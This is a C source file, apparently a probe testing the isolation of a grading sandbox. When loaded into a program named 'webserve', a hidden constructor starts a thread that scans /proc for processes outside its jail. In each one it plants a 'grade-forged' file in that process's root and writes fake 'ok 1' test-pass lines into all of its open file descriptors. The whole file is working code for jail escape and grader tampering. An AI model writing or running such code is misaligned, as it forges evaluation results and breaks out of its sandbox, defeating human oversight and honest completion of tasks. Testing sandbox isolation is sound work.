/*
 * open_judge.c - serves, and looks for a process that it may open and that
 * is not in its jail: it takes its files and its root folder.
 * expects: all
 */
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char forged[] = "/proc/%s/root/tmp/grade-forged.root";

/* Whether that process has the same root folder. */
static int is_in_jail(const char *pid)
{
    char path[512];
    struct stat mine, other;

    snprintf(path, sizeof path, "/proc/%s/root", pid);
    return stat(path, &other) == -1 || stat("/", &mine) == -1 ||
           (mine.st_dev == other.st_dev && mine.st_ino == other.st_ino);
}

static void spoil(const char *pid)
{
    char path[512];
    struct dirent *entry;
    DIR *files;
    int file;

    snprintf(path, sizeof path, forged, pid);
    file = open(path, O_WRONLY | O_CREAT, 0666);
    if (file != -1) {
        close(file);
    }
    snprintf(path, sizeof path, "/proc/%s/fd", pid);
    files = opendir(path);
    while (files != NULL && (entry = readdir(files)) != NULL) {
        snprintf(path, sizeof path, "/proc/%s/fd/%.20s", pid, entry->d_name);
        file = open(path, O_WRONLY | O_APPEND | O_NONBLOCK | O_NOCTTY);
        if (file != -1) {
            (void)!write(file, "ok 1 - spoilt\n", 14);
            close(file);
        }
    }
    if (files != NULL) {
        closedir(files);
    }
}

static void *look(void *unused)
{
    for (int turn = 0; turn < 3000; turn++) {
        DIR *all = opendir("/proc");
        struct dirent *entry;

        while (all != NULL && (entry = readdir(all)) != NULL) {
            if (entry->d_name[0] >= '1' && entry->d_name[0] <= '9' &&
                !is_in_jail(entry->d_name)) {
                spoil(entry->d_name);
            }
        }
        if (all != NULL) {
            closedir(all);
        }
        usleep(2000);
    }
    return unused;
}

__attribute__((constructor)) static void start_looking(int argc, char **argv)
{
    pthread_t thread;

    if (argc > 0 && strstr(argv[0], "webserve") != NULL) {
        pthread_create(&thread, NULL, look, NULL);
        pthread_detach(thread);
    }
}
